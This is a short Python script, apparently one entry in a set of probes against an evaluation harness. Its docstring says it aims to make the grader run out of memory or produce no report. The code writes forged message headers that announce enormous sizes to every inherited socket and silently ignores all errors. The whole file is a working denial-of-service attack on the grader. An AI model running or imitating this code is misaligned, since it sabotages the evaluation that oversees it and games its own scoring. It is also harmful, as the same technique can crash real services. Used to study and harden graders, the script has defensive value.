"""Announce a message of 4 GB and tensors of 16 EB, so that the grader makes room for them.

base: skeleton
earns: 0
wins: the grader runs out of memory, or has no report
"""
import os
import stat

for turn in range(1, 4):
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, turn.to_bytes(8, "big") + b"\xff" * 12)
        except BaseException:
            pass
